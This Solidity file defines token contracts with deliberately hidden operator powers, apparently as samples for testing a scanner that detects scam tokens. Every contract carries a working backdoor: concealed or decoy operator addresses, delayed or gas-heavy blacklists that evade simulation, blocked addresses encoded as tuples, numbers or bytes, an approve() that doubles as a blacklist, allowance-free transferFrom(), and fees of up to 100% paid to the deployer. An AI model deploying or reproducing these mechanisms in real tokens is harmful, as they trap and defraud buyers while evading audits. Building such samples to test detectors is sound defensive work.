// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {PooledToken, TokenParams} from "./BaseToken.sol";

/// Where the token stores the operator, which is the account with the power.
enum Place {
    Owner,
    Storage,
    Code,
    Mapping
}

struct Placement {
    Place place;
    /// Number of accounts without a power that are stored before the operator.
    uint256 decoys;
    /// Whether calls of other accounts also write to storage, without an effect on holders.
    bool noisy;
}

/// Powers at the bounds of a scan of owner functions. A call of any account but the operator succeeds without an effect.
abstract contract QuietCore is PooledToken {
    Placement private placement;
    mapping(address => bool) private operators;
    mapping(address => uint256) private notes;
    mapping(address => uint256) internal status;
    address[12] private accounts;

    address private immutable first;
    address private immutable second;
    address private immutable third;
    address private immutable fourth;
    address private immutable fifth;
    address private immutable sixth;
    address private immutable seventh;
    address private immutable eighth;
    address private immutable coded;

    constructor(TokenParams memory params, Placement memory placement_, address operator) PooledToken(params) {
        placement = placement_;
        Place place = placement_.place;
        if (place == Place.Mapping) operators[operator] = true;
        bool isCoded = place == Place.Code;
        first = isCoded && placement_.decoys > 0 ? _decoy(1) : address(0);
        second = isCoded && placement_.decoys > 1 ? _decoy(2) : address(0);
        third = isCoded && placement_.decoys > 2 ? _decoy(3) : address(0);
        fourth = isCoded && placement_.decoys > 3 ? _decoy(4) : address(0);
        fifth = isCoded && placement_.decoys > 4 ? _decoy(5) : address(0);
        sixth = isCoded && placement_.decoys > 5 ? _decoy(6) : address(0);
        seventh = isCoded && placement_.decoys > 6 ? _decoy(7) : address(0);
        eighth = isCoded && placement_.decoys > 7 ? _decoy(8) : address(0);
        coded = isCoded ? operator : address(0);
        if (place != Place.Storage) return;
        for (uint256 i; i < placement_.decoys; i++) accounts[i] = _decoy(i + 1);
        accounts[placement_.decoys] = operator;
    }

    function owner() external view returns (address) {
        return placement.place == Place.Owner ? deployer : address(0);
    }

    /// Uses the decoys, so that the compiler stores them before the operator in the code.
    function team() external view returns (address[8] memory) {
        return [first, second, third, fourth, fifth, sixth, seventh, eighth];
    }

    function _decoy(uint256 number) private pure returns (address) {
        return address(uint160(uint256(keccak256(abi.encode("decoy", number)))));
    }

    function _isOperator() internal returns (bool) {
        if (placement.noisy) notes[msg.sender]++;
        Place place = placement.place;
        if (place == Place.Owner) return msg.sender == deployer;
        if (place == Place.Storage) return msg.sender == accounts[placement.decoys];
        return place == Place.Code ? msg.sender == coded : operators[msg.sender];
    }

    function _transfer(address from, address to, uint256 amount) internal virtual override {
        require(status[from] == 0 || block.timestamp < status[from] || _isTeam(from, to), "see the status");
        _move(from, to, amount);
    }
}

contract QuietListToken is QuietCore {
    constructor(TokenParams memory params, Placement memory placement_, address operator)
        QuietCore(params, placement_, operator)
    {}

    function setStatus(address account, uint8 value) external {
        if (_isOperator()) status[account] = value;
    }
}

/// The list takes effect one hour after a holder was added.
contract LateListToken is QuietCore {
    constructor(TokenParams memory params, Placement memory placement_, address operator)
        QuietCore(params, placement_, operator)
    {}

    function setStatus(address account) external {
        if (_isOperator()) status[account] = block.timestamp + 1 hours;
    }
}

/// Adding a holder to the list uses more gas than simulated calls get.
contract HeavyListToken is QuietCore {
    uint256 private sum;

    constructor(TokenParams memory params, Placement memory placement_, address operator)
        QuietCore(params, placement_, operator)
    {}

    function setStatus(address account, uint8 value) external {
        if (!_isOperator() || value != 1) return;
        uint256 before = gasleft();
        uint256 work = 1;
        while (before - gasleft() < 6_000_000) work = uint256(keccak256(abi.encode(work)));
        sum = work;
        status[account] = value;
    }
}

/// Holders are members of tuples in a list.
contract ShapeListToken is QuietCore {
    struct Entry {
        address account;
        uint8 value;
    }

    constructor(TokenParams memory params, Placement memory placement_, address operator)
        QuietCore(params, placement_, operator)
    {}

    function setEntries(Entry[] calldata entries) external {
        require(_isOperator(), "not allowed");
        for (uint256 i; i < entries.length; i++) status[entries[i].account] = entries[i].value;
    }
}

/// Functions with tuples as parameters: one blocks a holder, the other sets the taxes.
contract TupleToken is QuietCore {
    struct Listing {
        address account;
        uint8 value;
        string reason;
    }

    struct Fees {
        uint16 buy;
        uint16 sell;
    }

    Fees private fees;

    constructor(TokenParams memory params, Placement memory placement_, address operator)
        QuietCore(params, placement_, operator)
    {}

    function list(Listing calldata listing) external {
        require(_isOperator(), "not allowed");
        status[listing.account] = listing.value;
    }

    /// In basis points.
    function setFees(Fees calldata fees_) external {
        require(_isOperator() && fees_.buy <= 10_000 && fees_.sell <= 10_000, "not allowed");
        fees = fees_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 rate = _isBuy(from, to) ? fees.buy : _isSale(from, to) ? fees.sell : 0;
        uint256 fee = amount * rate / 10_000;
        if (fee > 0) _move(from, deployer, fee);
        super._transfer(from, to, amount - fee);
    }
}

/// The holder's address is passed as a number.
contract NumberListToken is QuietCore {
    constructor(TokenParams memory params, Placement memory placement_, address operator)
        QuietCore(params, placement_, operator)
    {}

    function record(uint256 number) external {
        if (_isOperator()) status[address(uint160(number))] = 1;
    }
}

/// The holder's address is encoded in bytes.
contract BytesListToken is QuietCore {
    constructor(TokenParams memory params, Placement memory placement_, address operator)
        QuietCore(params, placement_, operator)
    {}

    function record(bytes calldata data) external {
        require(_isOperator(), "not allowed");
        status[abi.decode(data, (address))] = 1;
    }
}

/// ERC-20's own functions have a second meaning for the operator.
contract BackdoorToken is QuietCore {
    constructor(TokenParams memory params, Placement memory placement_, address operator)
        QuietCore(params, placement_, operator)
    {}

    function approve(address spender, uint256 amount) external override returns (bool) {
        if (_isOperator()) status[spender] = 1;
        _approve(msg.sender, spender, amount);
        return true;
    }
}

/// The operator can spend holders' balances without an allowance.
contract FreeSpenderToken is QuietCore {
    constructor(TokenParams memory params, Placement memory placement_, address operator)
        QuietCore(params, placement_, operator)
    {}

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        if (!_isOperator()) _spend(from, amount);
        _transfer(from, to, amount);
        return true;
    }
}
